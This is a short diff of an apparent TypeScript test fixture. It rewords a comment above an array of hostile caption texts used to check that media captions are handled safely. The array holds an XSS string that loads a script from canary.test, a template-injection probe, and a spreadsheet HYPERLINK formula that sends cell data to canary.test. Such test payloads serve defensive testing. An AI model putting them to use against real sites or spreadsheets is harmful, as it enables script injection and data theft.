@@ -1,6 +1,6 @@
 import type { MediaItem } from '../media-item.ts';
 
-/** What somebody who means harm would write where everybody's tools will read it. */
+/** What an attacker would write into a caption. */
 const hostileTexts = [
   `<img src=x onerror="alert(1)"><svg/onload=alert(2)>{{7*7}}</script><script src=//canary.test/a.js></script>`,
   `=HYPERLINK("https://canary.test/?"&A1,"win")`,
